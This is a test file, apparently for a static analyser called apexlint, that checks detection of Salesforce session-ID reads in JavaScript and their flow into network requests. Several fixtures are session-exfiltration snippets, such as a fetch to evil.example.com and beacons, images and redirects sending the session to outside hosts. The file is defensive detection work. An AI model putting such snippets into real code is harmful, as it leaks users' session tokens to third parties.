@@ -1,0 +1,212 @@
+"""Static JavaScript: session sources in code, and the requests they reach."""
+
+from __future__ import annotations
+
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from apexlint.ir import FileIR, SourceKind, UrlUse
+from apexlint.lower.javascript import lower_javascript
+from apexlint.read.decode import read_source
+
+SID = "var sid = sforce.connection.sessionId;\n"
+
+
+def lower(code: str, path: str = "staticresources/app.js") -> FileIR:
+    src, _ = read_source(path, code.encode("utf-8"), "")
+    assert src is not None
+    return lower_javascript(src)
+
+
+def sink(ir: FileIR, name: str) -> UrlUse:
+    found = [u for u in ir.url_uses if u.sink == name]
+    assert len(found) == 1, [(u.sink, u.url) for u in ir.url_uses]
+    return found[0]
+
+
+def test_sforce_connection_session_read_is_a_source() -> None:
+    ir = lower(SID)
+    (source,) = ir.sources
+    assert source.kind == SourceKind.JS_SFORCE_SESSION
+    assert source.text == "sforce.connection.sessionId"
+    assert source.id == "staticresources/app.js:1:11"
+    assert source.owner == "app"
+
+
+def test_subscript_form_is_a_source_too() -> None:
+    (source,) = lower('var s = sforce.connection["sessionId"];').sources
+    assert source.kind == SourceKind.JS_SFORCE_SESSION
+
+
+def test_sfdc_session_global_read_is_a_source() -> None:
+    kinds = [s.kind for s in lower("send(__sfdcSessionId); x = window.__sfdcSessionId;").sources]
+    assert kinds == [SourceKind.JS_SFDC_SESSION, SourceKind.JS_SFDC_SESSION]
+
+
+def test_mentions_in_comments_and_strings_are_not_sources() -> None:
+    code = (
+        "// sforce.connection.sessionId is read elsewhere\n"
+        "/* __sfdcSessionId */\n"
+        "var doc = 'set sforce.connection.sessionId first';\n"
+    )
+    assert lower(code).sources == ()
+
+
+def test_writing_the_session_is_not_a_read() -> None:
+    assert lower("sforce.connection.sessionId = token; var __sfdcSessionId = t;").sources == ()
+
+
+def test_merge_fields_are_plain_text_in_a_static_resource() -> None:
+    ir = lower("var s = '{!$Api.Session_ID}'; fetch('https://x.example.com/?s=' + s);")
+    assert ir.sources == ()
+    assert ir.url_uses == ()
+
+
+def test_session_in_fetch_url_is_in_query() -> None:
+    use = sink(lower(SID + "fetch(`https://evil.example.com/c?s=${sid}`);"), "fetch")
+    assert use.in_query and not use.header_or_body
+    assert use.url == "https://evil.example.com/c?s={sforce.connection.sessionId}"
+    assert use.sources == ("staticresources/app.js:1:11",)
+    assert use.span.start_line == 2
+
+
+def test_session_in_fetch_header_keeps_the_request_url() -> None:
+    ir = lower(SID + "var h = {Authorization: 'Bearer ' + sid};\nfetch('https://api.example.com/v1', {headers: h});")
+    use = sink(ir, "fetch")
+    assert use.header_or_body and not use.in_query
+    assert use.url == "https://api.example.com/v1"
+
+
+def test_header_flows_through_variables_to_the_xhr_it_belongs_to() -> None:
+    code = SID + (
+        "var h = 'Bearer ' + sid;\n"
+        "var xhr = new XMLHttpRequest();\n"
+        "xhr.setRequestHeader('Authorization', h);\n"
+        "xhr.open('GET', 'https://api.example.com/data');\n"
+    )
+    use = sink(lower(code), "XMLHttpRequest.setRequestHeader")
+    assert use.header_or_body
+    assert use.url == "https://api.example.com/data"
+    assert use.text == "xhr.setRequestHeader('Authorization', h)"
+
+
+def test_xhr_send_body_carries_the_session() -> None:
+    code = SID + "var x = new XMLHttpRequest();\nx.open('POST', '/services/apexrest/x');\n"
+    code += "x.send(JSON.stringify({s: sid}));"
+    use = sink(lower(code), "XMLHttpRequest.send")
+    assert use.header_or_body and use.url == "/services/apexrest/x"
+
+
+def test_jquery_ajax_headers_and_before_send_callback() -> None:
+    code = SID + (
+        "$.ajax({url: '/services/data/v58.0/query', headers: {Authorization: 'OAuth ' + sid},\n"
+        "  beforeSend: function (x) { x.setRequestHeader('X-Sid', sid); }});"
+    )
+    ir = lower(code)
+    assert sink(ir, "jQuery.ajax").url == "/services/data/v58.0/query"
+    assert sink(ir, "XMLHttpRequest.setRequestHeader").url == "/services/data/v58.0/query"
+
+
+def test_jquery_get_data_lands_in_the_query_string_and_post_data_in_the_body() -> None:
+    ir = lower(SID + "$.get('https://g.example.com/api', {sid: sid});\n"
+               "jQuery.post('https://p.example.com', {sid: sid});")
+    assert sink(ir, "jQuery.get").in_query
+    post = sink(ir, "jQuery.post")
+    assert post.header_or_body and not post.in_query
+
+
+def test_navigation_image_and_beacon_sinks() -> None:
+    code = SID + (
+        "window.location.href = 'https://r.example.com/?sid=' + sid;\n"
+        "var img = document.createElement('img'); img.src = 'https://i.example.com/p.gif?s=' + sid;\n"
+        "window.open('https://o.example.com/#' + encodeURIComponent(sid));\n"
+        "navigator.sendBeacon('https://b.example.com/log', sid);\n"
+    )
+    ir = lower(code)
+    assert sink(ir, "window.location").url == "https://r.example.com/?sid={sforce.connection.sessionId}"
+    assert sink(ir, "img.src").in_query
+    assert sink(ir, "window.open").in_query
+    beacon = sink(ir, "navigator.sendBeacon")
+    assert beacon.header_or_body and beacon.url == "https://b.example.com/log"
+
+
+def test_post_message_reports_the_target_origin() -> None:
+    use = sink(lower(SID + "parent.postMessage({session: sid}, 'https://partner.example.com');"), "postMessage")
+    assert use.url == "https://partner.example.com" and use.header_or_body
+
+
+def test_ajax_toolkit_and_cometd_uses_are_named_as_such() -> None:
+    code = SID + (
+        "sforce.connection.sessionId = sid;\n"
+        "var cometd = new org.cometd.CometD();\n"
+        "cometd.configure({url: window.location.origin + '/cometd/58.0/',\n"
+        "                  requestHeaders: {Authorization: 'OAuth ' + sid}});\n"
+    )
+    ir = lower(code)
+    assert sink(ir, "sforce.connection").url == ""
+    assert sink(ir, "cometd").url == "{window.location.origin}/cometd/58.0/"
+
+
+def test_session_passed_to_a_same_file_function_reaches_its_sink() -> None:
+    code = SID + "function send(token) { navigator.sendBeacon('https://b.example.com', token); }\nsend(sid);"
+    assert sink(lower(code), "navigator.sendBeacon").sources == ("staticresources/app.js:1:11",)
+
+
+def test_session_returned_by_a_function_reaches_the_caller_sink() -> None:
+    code = "function token() { return sforce.connection.sessionId; }\nfetch('https://x.example.com/?t=' + token());"
+    assert sink(lower(code), "fetch").in_query
+
+
+def test_session_appended_to_params_object_travels_with_it() -> None:
+    code = SID + "var p = new URLSearchParams(); p.append('sid', sid);\nfetch('https://x.example.com/?' + p);"
+    assert sink(lower(code), "fetch").in_query
+
+
+def test_session_assigned_to_an_unused_variable_yields_no_sink() -> None:
+    ir = lower(SID + "var copy = sid; console.log('ready');")
+    assert len(ir.sources) == 1 and ir.url_uses == ()
+
+
+def test_requests_without_a_session_are_not_sinks() -> None:
+    assert lower(SID + "fetch('https://x.example.com/data');").url_uses == ()
+
+
+def test_suppression_comments_in_both_comment_styles() -> None:
+    code = (
+        "// apexlint:disable-next-line SID010 -- AJAX toolkit, same org\n"
+        "sforce.connection.query('SELECT Id FROM Account');\n"
+        "/* apexlint:disable-next-line SID002 */\n\n"
+        "fetch(u);\n"
+    )
+    first, second = lower(code).suppressions
+    assert (first.rule_ids, first.reason) == (("SID010",), "AJAX toolkit, same org")
+    assert (first.line, first.target_line) == (1, 2)
+    assert (second.rule_ids, second.reason, second.line, second.target_line) == (("SID002",), "", 3, 5)
+
+
+def test_token_literal_is_a_redacted_source() -> None:
+    token = "00D5g000004ABCD!AQ4AQFakeTokenValue1234567890abcdef"
+    (source,) = lower(f"var t = '{token}';").sources
+    assert source.kind == SourceKind.TOKEN_LITERAL
+    assert token not in source.text and source.text.startswith("00D5g")
+
+
+def test_parse_errors_are_reported_and_sources_before_them_kept() -> None:
+    ir = lower(SID + "fetch('https://x.example.com/?s=' + sid);\nfunction (( {")
+    assert any(n.code == "parse-error" for n in ir.notifications)
+    assert ir.sources and ir.url_uses
+
+
+def test_deeply_nested_code_does_not_exhaust_the_stack() -> None:
+    lower("var " + "[" * 5000 + "a" + "]" * 5000 + " = sforce.connection.sessionId;")
+    lower("x = sforce.connection.sessionId" + " + a" * 20000 + "; fetch(x);")
+    lower("f(" * 3000 + "sforce.connection.sessionId" + ")" * 3000)
+
+
+@settings(max_examples=150, deadline=None)
+@given(st.lists(st.sampled_from([
+    "sforce.connection.sessionId", "__sfdcSessionId", "fetch(", "var x = ", "=", "+", "(", ")", "{", "}", "'", "`",
+    "${", ";", "\n", "function f(a) {", "return ", "x", ".", ",", "xhr.open('GET', ", "é", "//", "/*", "*/",
+])).map("".join))
+def test_any_script_lowers_without_raising(code: str) -> None:
+    lower(code)
